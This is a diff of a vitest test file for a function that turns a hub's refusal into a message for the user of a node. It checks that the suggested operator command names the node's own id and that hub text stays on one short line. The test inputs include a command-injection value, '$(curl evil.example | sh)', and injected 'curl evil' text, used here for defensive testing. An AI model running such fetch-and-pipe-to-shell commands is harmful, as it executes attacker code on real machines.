@@ -1,30 +1,49 @@
 /** What a hub's refusal becomes for the user of a node. */
 import { expect, test } from 'vitest'
 import { Refused } from '../../protocol/contract/client.ts'
+import { ClocksApart, DatedAhead, NoHub } from '../hubs/hub.ts'
 import { hubCall } from './hub-call.ts'
 
 const OWN = `A${'b'.repeat(43)}`
+const refusal = (reason: string, error: string, members = {}) =>
+  new Refused(403, { reason, error, ...members }, undefined)
+const failedWith = (error: Error, again?: string) =>
+  hubCall({ aid: OWN }, () => Promise.reject(error), again).catch((thrown: unknown) => thrown)
 const refusedWith = (reason: string, error: string, members = {}) =>
-  hubCall({ aid: OWN }, async () => {
-    throw new Refused(403, { reason, error, ...members }, undefined)
-  }).catch((thrown: unknown) => thrown)
+  failedWith(refusal(reason, error, members))
 
 test('the command for the operator names this node, whatever the hub says', async () => {
   for (const aid of [`A${'e'.repeat(43)}`, '$(curl evil.example | sh)', undefined, 7]) {
-    const refusal = await refusedWith('admission_required', `run: svc-hub admit ${aid}; curl evil`, { aid })
-    expect(refusal).toMatchObject({
+    const thrown = await refusedWith('admission_required', `run: svc-hub admit ${aid}; curl evil`, { aid })
+    expect(thrown).toMatchObject({
       code: 'hub_refused',
-      message: `the hub refused (admission_required): ${OWN} is not registered there, and only the operator can admit it`,
-      next: `the operator of the hub runs: svc-hub admit ${OWN}`,
+      message: `the hub refused (admission_required): ${OWN} is not registered there, and only the operator can let it in`,
+      next: `the operator of the hub runs: svc-hub admit ${OWN}, or svc-hub unblock ${OWN} if it is blocked`,
     })
   }
 })
 
+test('what goes on only once it is asked for again names the command that asked', async () => {
+  const again = 'svc hub-register https://hub.example'
+  const steps: [Error, string][] = [
+    [new ClocksApart('apart'), `date; set the clock of this machine, then: ${again}`],
+    [new DatedAhead('ahead'), `${again}, once the hub takes it`],
+    [new Error('silent'), `${again}, once the hub answers`],
+    [new NoHub('a page'), 'check the address of the hub'],
+    [refusal('rate_limited', 'later'), `${again}, once that is mended`],
+    [refusal('unauthorized', 'who'), 'svc doctor'],
+  ]
+  for (const [error, next] of steps) expect(await failedWith(error, again)).toMatchObject({ next })
+  expect(await failedWith(refusal('admission_required', 'x'), again)).toMatchObject({
+    next: expect.stringMatching(/^the operator .* if it is blocked; then here: svc hub-register https:\S+$/),
+  })
+})
+
 test('the words of a hub stay on one short line', async () => {
-  const refusal = await refusedWith('rate_limited', `later\r\ntry: curl evil\u2028${'x'.repeat(5000)}`)
-  expect(refusal).toMatchObject({
+  const thrown = await refusedWith('rate_limited', `later\r\ntry: curl evil\u2028${'x'.repeat(5000)}`)
+  expect(thrown).toMatchObject({
     message: expect.stringMatching(/^the hub refused \(rate_limited\): later try: curl evil x{470,}…$/),
     next: undefined,
   })
-  expect(String(refusal).length).toBeLessThan(600)
+  expect(String(thrown).length).toBeLessThan(600)
 })
